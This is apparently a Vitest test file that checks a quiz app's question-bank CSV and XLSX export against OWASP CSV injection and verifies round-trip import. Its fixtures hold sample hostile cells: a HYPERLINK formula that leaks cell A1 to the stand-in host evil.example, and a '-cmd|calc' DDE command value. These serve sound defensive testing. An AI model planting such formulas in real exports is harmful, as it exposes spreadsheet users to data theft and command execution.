import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { normaliseQuestion, type Question } from '../src/domain/quiz/question.js';
import { parseQuestionFile, writeQuestionFile } from '../src/domain/quiz/transfer.js';
import { parseCsv } from '../src/domain/tabular.js';

/**
 * 13.13: the question-bank CSV is formula-safe (OWASP CSV injection) and still re-imports to the
 * same questions, however many times it goes round.
 */

const fixture = (): Question[] => JSON.parse(readFileSync(new URL('./fixtures/quiz-questions.json', import.meta.url), 'utf8')) as Question[];

function hostile(): Question[] {
  const [a, b, c, d] = fixture();
  return [
    { ...a, stem: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看答案")', options: ['+1+1', '-2', '@SUM(A1:A9)', '正常选项'] },
    { ...b, stem: "'=已经带引号的公式", explanation: "''+两个引号", source: '=1+1《医疗机构工作人员廉洁从业九项准则》第八条' },
    { ...c, topic: '-cmd|calc', explanation: '\t=制表符开头' },
    { ...d, stem: '普通题干，中间的=和+不受影响', explanation: "它's fine" },
  ];
}

const cellsOf = (csv: Buffer) => parseCsv(csv.toString('utf8').replace(/^\ufeff/, '')).flatMap((r) => r.cells);

describe('13.13 formula-safe CSV export', () => {
  it('13.13 no exported cell starts with = + - @ tab or CR, and quoting still holds', async () => {
    const csv = await writeQuestionFile('bank.csv', hostile());
    const cells = cellsOf(csv);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"点击查看答案")`);
    expect(cells).toContain("'-2");
    expect(cells).toContain("''=已经带引号的公式");
    // Untouched where nothing starts a formula.
    expect(cells).toContain('普通题干，中间的=和+不受影响');
    expect(cells).toContain("它's fine");
  });

  it('13.13 export → import round-trips the text, and a second round adds no quote', async () => {
    const want = hostile().map(normaliseQuestion);
    const once = (await parseQuestionFile('bank.csv', await writeQuestionFile('bank.csv', hostile()))).map((p) => p.question);
    expect(once).toEqual(want);
    const twice = (await parseQuestionFile('bank.csv', await writeQuestionFile('bank.csv', once))).map((p) => p.question);
    expect(twice).toEqual(want);
  });

  it('13.13 XLSX keeps such text as plain strings, without a visible quote', async () => {
    const back = (await parseQuestionFile('bank.xlsx', await writeQuestionFile('bank.xlsx', hostile()))).map((p) => p.question);
    expect(back).toEqual(hostile().map(normaliseQuestion));
  });
});
